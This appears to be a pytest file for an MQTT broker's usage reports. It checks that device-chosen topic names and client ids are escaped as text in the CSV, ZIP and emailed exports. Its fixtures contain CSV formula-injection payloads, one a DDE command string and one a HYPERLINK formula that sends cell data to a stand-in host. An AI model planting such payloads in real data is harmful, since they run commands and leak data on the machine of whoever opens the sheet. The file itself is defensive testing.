"""The report's downloads (CSV, spreadsheets ZIP, the emailed CSV) from a real brokerd's usage log:
names the devices chose (topics, client ids) are the tenant's data, not spreadsheet formulas."""

import csv
import io
import time
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from django.urls import reverse

from spark_reports.models import ReportRun

from ..mqtt import PahoClient
from ..procs import BrokerProcess

pytestmark = pytest.mark.slow

# what a device may publish to: valid MQTT topic names that a spreadsheet would run as formulas
HOSTILE_TOPICS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.test/?"&A1,"x")', "-2-3", "@SUM(1)"]
HOSTILE_CLIENT = "+2*3"   # an anonymous client's client id is its device name


@pytest.fixture(scope="module")
def logged(tmp_path_factory):
    usage = tmp_path_factory.mktemp("export") / "usage"
    node = BrokerProcess("--sys-interval", "0", "--usage-dir", str(usage), "--node-id", "x1").start()
    try:
        c = PahoClient(HOSTILE_CLIENT).connect(node.port())
        for topic in HOSTILE_TOPICS:
            c.publish(topic, b"1", qos=1)
        c.disconnect()
        time.sleep(0.5)
    finally:
        node.stop()
    return usage


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_names_that_read_as_formulas_are_written_as_text(spark, logged, clients, settings, db):
    """A device publishing to ``=cmd|' /C calc'!A0`` had that cell run by the spreadsheet of whoever
    opened the report's CSV (Excel: a command; any: a link sending the sheet's cells away)."""
    from spark_reports import delivery, export, services
    from tenants import services as tenant_services
    from tenants.models import Tenant

    settings.USAGE_DIR = str(logged)
    tenant = Tenant.objects.filter(slug="default").first() or tenant_services.create_tenant("default",
                                                                                         name="Anonymous")

    today = datetime.now(tz=UTC).date()
    midnight = datetime(today.year, today.month, today.day, tzinfo=UTC)
    run = ReportRun.objects.create(tenant=tenant, period_start=midnight - timedelta(days=1),
                                   period_end=midnight + timedelta(days=1))
    services.execute_run(run, attempt=1)
    run.refresh_from_db()
    assert run.status == "succeeded", run.error
    assert sorted(r["topic"] for r in run.result["top_topics"]) == sorted(HOSTILE_TOPICS)
    assert [r["device"] for r in run.result["top_devices"]] == [HOSTILE_CLIENT]

    url = reverse("report_csv", args=["default", run.pk])
    whole = clients["root"].get(url).content.decode()
    topics = clients["root"].get(url + "?table=top_topics").content.decode()
    devices = clients["root"].get(url + "?table=top_devices").content.decode()
    z = zipfile.ZipFile(io.BytesIO(clients["root"].get(url + "?format=zip").content))
    sheets = [z.read(name).decode() for name in z.namelist()]
    emailed = delivery.build_message(run, ["ops@example.test"]).attachments[-1][1]
    assert emailed == export.report_csv(run.result)

    for text in (whole, topics, devices, *sheets):
        cells = _cells(text)
        # no cell a spreadsheet would take for a formula ...
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], text
    # ... and every name is still there, as text
    for name in [*HOSTILE_TOPICS, HOSTILE_CLIENT]:
        assert "'" + name in _cells(whole)
    assert {"'" + t for t in HOSTILE_TOPICS} <= set(_cells(topics))
    assert "'" + HOSTILE_CLIENT in _cells(devices)
    # the figures stay numbers
    assert f"totals,,msgs_in,{len(HOSTILE_TOPICS)}\n" in whole
